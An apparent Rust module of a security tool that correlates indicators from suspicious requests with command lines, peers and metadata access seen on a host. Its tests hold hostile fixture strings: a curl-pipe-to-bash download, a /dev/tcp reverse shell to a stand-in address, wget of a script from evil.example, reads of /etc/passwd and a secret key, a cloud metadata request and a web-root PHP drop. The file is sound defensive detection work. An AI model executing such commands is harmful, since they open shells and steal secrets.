//! Indicator echo: what a request said that reappears on the host. In: indicators of a verdict, and the surface of a finding
//! (command lines below the service, peers, names looked up). Out: the echoes, each marked distinctive or common.
//!
//! A common word (`id`, `/etc/passwd`, a metadata address that every SDK asks) proves nothing by itself; it counts only while
//! its request is in flight, which the caller checks.

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};

use crate::evidence::{HostFinding, Placement};
use crate::incident::Echo;
use crate::metadata;
use crate::request::Indicator;

use super::sought::{
    Form, Sought, address_key, address_of, host_form, host_key, host_of, lowered, path_key, word_key, words,
};

/// Most words of one finding's command lines that are compared; a command line is bounded at 4 KiB, its lineage at 16 nodes.
const WORDS_MAX: usize = 1024;
/// Processes of a lineage whose command lines are read.
const LINES_MAX: usize = 8;
/// Shortest URL that is looked for inside longer words.
const URL_WITHIN_WORD: usize = 10;
/// Ends of one word that are keyed as paths: no path that is looked for lies deeper.
const PATHS_MAX: usize = 32;
/// Shortest path that is looked for: `/x` ends half of all words.
const PATH_MIN: usize = 4;

/// What a finding shows that a request may have said before.
#[derive(Clone, Debug, Default)]
pub(super) struct Surface {
    /// Words of the command lines, lower case, in order.
    words: Vec<String>,
    /// Addresses named or reached, with where.
    addresses: BTreeMap<IpAddr, String>,
    /// Host names named or looked up, with where.
    hosts: BTreeMap<String, String>,
    /// The role that a metadata service was asked for.
    role: Option<String>,
    /// The command lines, each with the number of words before it: for the sentence.
    lines: Vec<(usize, String)>,
}

/// The command lines of a process and its ancestors up to the service, which is what a request can have brought about: the
/// service's own was there before.
fn command_lines(place: &Placement) -> impl Iterator<Item = &str> {
    let service = place.service.as_ref().map(|service| service.process);
    let nodes = place.lineage.iter().take_while(move |node| Some(node.process) != service).take(LINES_MAX);
    let mut ends = false;
    nodes.map(|node| &*node.command_line).take_while(move |line| {
        // Ancestors of a process without a known service reach up to init: only what has its parent's company is new.
        let goes_on = !ends;
        ends |= service.is_none() && has_words(line);
        goes_on
    })
}

fn has_words(command_line: &str) -> bool {
    words(command_line).next().is_some()
}

/// What a part of a word names beside itself.
enum Named<'w> {
    Address(IpAddr),
    Host(&'w str),
}

/// Addresses and host names within a word, which is lower case.
fn named(word: &str) -> impl Iterator<Item = Named<'_>> {
    // Either has a dot or a colon in it; most words have none.
    let may = |part: &&str| part.bytes().any(|byte| matches!(byte, b'.' | b':'));
    word.split(['/', '@', '?', '#', '='])
        .filter(may)
        .filter_map(|part| address_of(part).map(Named::Address).or_else(|| host_of(part).map(Named::Host)))
}

/// Keys of everything that a request could name and find on the surface of a finding, sorted: what is not among them need not be
/// compared. Worked out for each finding, so without a copy of anything.
#[derive(Default)]
pub(super) struct Keys {
    keys: Vec<u64>,
    words: usize,
}

impl Keys {
    /// Of what was done at `place`.
    pub(super) fn of(place: &Placement) -> Self {
        let mut keys = Self::default();
        for line in command_lines(place) {
            keys.read(line);
        }
        keys
    }

    fn read(&mut self, command_line: &str) {
        let line = lowered(command_line);
        for word in words(&line).take(WORDS_MAX - self.words) {
            self.words += 1;
            for named in named(word) {
                match named {
                    Named::Address(address) => self.keys.push(address_key(address)),
                    Named::Host(host) => self.host(host),
                }
            }
            self.word(word);
        }
    }

    fn word(&mut self, word: &str) {
        self.keys.push(word_key(word));
        let ends = word.match_indices('/').filter_map(|(slash, _)| word.get(slash..));
        self.keys.extend(ends.take(PATHS_MAX).map(path_key));
    }

    fn host(&mut self, host: &str) {
        let ends = host.match_indices('.').filter_map(|(dot, _)| host.get(dot + 1..));
        self.keys.extend(ends.chain([host]).map(host_key));
    }

    /// Adds those of what a metadata finding reached.
    pub(super) fn with_finding(mut self, finding: &HostFinding) -> Box<[u64]> {
        if let HostFinding::Metadata { endpoint, role, .. } = finding {
            self.keys.push(address_key(metadata::canonical(endpoint.ip())));
            role.iter().for_each(|role| self.word(&lowered(role)));
        }
        self.sorted()
    }

    /// Adds those of a peer and the names it was reached by.
    pub(super) fn with_peer<'n>(mut self, peer: SocketAddr, names: impl Iterator<Item = &'n str>) -> Box<[u64]> {
        self.keys.push(address_key(metadata::canonical(peer.ip())));
        names.for_each(|name| self.host(&host_form(name)));
        self.sorted()
    }

    fn sorted(mut self) -> Box<[u64]> {
        self.keys.sort_unstable();
        self.keys.dedup();
        self.keys.into_boxed_slice()
    }
}

impl Surface {
    /// Of what was done at `place`.
    pub(super) fn of(place: &Placement) -> Self {
        let mut surface = Self::default();
        for line in command_lines(place) {
            surface.read(line);
        }
        surface
    }

    /// Adds what a metadata finding reached.
    pub(super) fn with_finding(mut self, finding: &HostFinding) -> Self {
        if let HostFinding::Metadata { endpoint, role, .. } = finding {
            self.addresses.insert(metadata::canonical(endpoint.ip()), format!("the endpoint {endpoint}"));
            self.role = role.as_ref().map(|role| role.to_lowercase());
            self.words.extend(self.role.clone());
        }
        self
    }

    /// Adds a peer and the names it was reached by.
    pub(super) fn with_peer<'n>(mut self, peer: SocketAddr, names: impl IntoIterator<Item = &'n str>) -> Self {
        self.addresses.insert(metadata::canonical(peer.ip()), format!("the peer {peer}"));
        for name in names {
            self.hosts.insert(host_form(name), format!("the name {name}"));
        }
        self
    }

    fn read(&mut self, command_line: &str) {
        self.lines.push((self.words.len(), command_line.to_owned()));
        let line = lowered(command_line);
        for word in words(&line).take(WORDS_MAX - self.words.len()) {
            for named in named(word) {
                match named {
                    Named::Address(address) => {
                        self.addresses.entry(address).or_insert_with(|| command_line.to_owned());
                    }
                    Named::Host(host) => {
                        self.hosts.entry(host.to_owned()).or_insert_with(|| command_line.to_owned());
                    }
                }
            }
            self.words.push(word.to_owned());
        }
    }

    /// What of `sought` reappears here, in the same order.
    pub(super) fn echoes<'s>(&self, sought: impl Iterator<Item = &'s Sought>) -> Vec<Echo> {
        sought.filter_map(|sought| self.echo(sought)).collect()
    }

    fn echo(&self, sought: &Sought) -> Option<Echo> {
        if let Some((seen_in, distinctive)) = self.find(&sought.form) {
            return Some(Echo { indicator: sought.indicator.clone(), seen_in: seen_in.to_owned(), distinctive });
        }
        // The answer to one forged request names the role that the next one asks for; nobody else outside knows it.
        if let (Form::Url { url, .. }, Some(role)) = (&sought.form, &self.role)
            && last_segment(url) == role
        {
            let seen_in = format!("the role {role}");
            return Some(Echo { indicator: sought.indicator.clone(), seen_in, distinctive: true });
        }
        // Another path at the same place: what reappeared is the place, not the URL.
        let Form::Url { authority: Some(authority), .. } = &sought.form else { return None };
        let (seen_in, distinctive) = self.find(authority)?;
        let indicator = match authority.as_ref() {
            Form::Address { address, .. } => Indicator::Address(*address),
            Form::Host { host, .. } => Indicator::Host(host.clone()),
            _ => sought.indicator.clone(),
        };
        Some(Echo { indicator, seen_in: seen_in.to_owned(), distinctive })
    }

    /// The command line that the word at `place` stands in; what no command line said came with the finding itself.
    fn line(&self, place: usize) -> &str {
        let before = self.lines.partition_point(|(first, _)| *first <= place);
        before.checked_sub(1).and_then(|line| self.lines.get(line)).map_or("", |(_, line)| line)
    }

    /// Where `form` reappears, and whether that is distinctive.
    fn find(&self, form: &Form) -> Option<(&str, bool)> {
        match form {
            Form::Address { address, distinctive } => Some((self.addresses.get(address)?, *distinctive)),
            Form::Host { host, distinctive } => {
                let below =
                    |name: &str| name.strip_suffix(host).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'));
                let (_, seen) = self.hosts.iter().find(|(name, _)| below(name))?;
                Some((seen, *distinctive))
            }
            Form::Url { url, .. } => {
                let within = |word: &String| word == url || (url.len() >= URL_WITHIN_WORD && word.contains(url));
                let place = self.words.iter().position(within)?;
                Some((self.line(place), true))
            }
            Form::Command { telling, distinctive } => {
                let mut rest = self.words.iter().enumerate();
                let places = telling.iter().map(|word| rest.find(|(_, seen)| *seen == word).map(|(place, _)| place));
                let places = places.collect::<Option<Vec<usize>>>()?;
                Some((self.line(*places.first()?), *distinctive))
            }
            Form::CommonCommand { words } => {
                let mut windows = self.words.windows(words.len().max(1));
                let place = windows.position(|window| window == words)?;
                Some((self.line(place), false))
            }
            Form::Path { path, distinctive } => {
                let place = self.words.iter().position(|word| path.len() >= PATH_MIN && word.ends_with(path))?;
                Some((self.line(place), *distinctive))
            }
        }
    }
}

/// The end of a URL's path.
fn last_segment(url: &str) -> &str {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    path.rsplit('/').find(|segment| !segment.is_empty()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn surface(command_line: &str) -> Surface {
        let mut surface = Surface::default();
        surface.read(command_line);
        surface
    }

    #[test]
    fn the_process_that_holds_it_is_the_one_that_is_named() {
        let mut surface = surface("bash");
        surface.read("sh -c ping 127.0.0.1;curl http://203.0.113.7/x|bash");
        let check = |indicator: Indicator| {
            let echo = surface.echo(&Sought::of(&indicator)).expect("an echo");
            assert!(echo.seen_in.starts_with("sh -c"), "{indicator:?}: {}", echo.seen_in);
        };
        check(Indicator::Command("curl http://203.0.113.7/x".into()));
        check(Indicator::Url("http://203.0.113.7/x".into()));
        check(Indicator::Address("203.0.113.7".parse().expect("address")));
        check(Indicator::Command("ping".into()));
    }

    #[test]
    fn what_reappears_is_found_and_weighed() {
        let check = |indicator: Indicator, command_line: &str, expected: Option<bool>| {
            let echoes = {
                let sought = Sought::of(&indicator);
                let mut keys = Keys::default();
                keys.read(command_line);
                let may = sought.key.is_none_or(|key| keys.sorted().binary_search(&key).is_ok());
                if may { surface(command_line).echoes([&sought].into_iter()) } else { Vec::new() }
            };
            let echo = echoes.first().map(|echo| echo.distinctive);
            assert_eq!(echo, expected, "{indicator:?} in {command_line}");
        };
        let address = |text: &str| Indicator::Address(text.parse().expect("address"));
        let host = |text: &str| Indicator::Host(text.into());
        let url = |text: &str| Indicator::Url(text.into());
        let command = |text: &str| Indicator::Command(text.into());
        let path = |text: &str| Indicator::Path(text.into());

        check(address("203.0.113.7"), "sh -c curl http://203.0.113.7/x", Some(true));
        check(address("203.0.113.7"), "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Some(true));
        check(address("203.0.113.7"), "curl http://203.0.113.70/x", None);
        check(address("2001:db8::7"), "curl http://[2001:db8::7]:8080/x", Some(true));
        check(address("169.254.169.254"), "curl http://169.254.169.254/latest/", Some(false));
        check(host("Evil.Example"), "wget -q http://evil.example/a.sh", Some(true));
        check(host("evil.example"), "ping -c1 x9f2.evil.example", Some(true));
        check(host("evil.example"), "wget http://notevil.example/", None);
        check(url("http://evil.example/a.sh"), "sh -c wget http://evil.example/a.sh", Some(true));
        check(url("http://evil.example/a.sh"), "curl -s EVIL.example", Some(true));
        check(command("cat /srv/app/secret.key"), "sh -c cat /srv/app/secret.key", Some(true));
        check(command("id"), "sh -c id", Some(false));
        check(command("id"), "sh -c idle", None);
        check(command("whoami"), "ls -l", None);
        check(command("cat /etc/passwd"), "sh -c ping 127.0.0.1;cat /etc/passwd", Some(true));
        check(path("/etc/passwd"), "cat /etc/passwd", Some(false));
        check(path("/var/www/html/x7.php"), "sh -c echo hi > /var/www/html/x7.php", Some(true));
        check(path("/x"), "sh -c /x", None);
    }
}
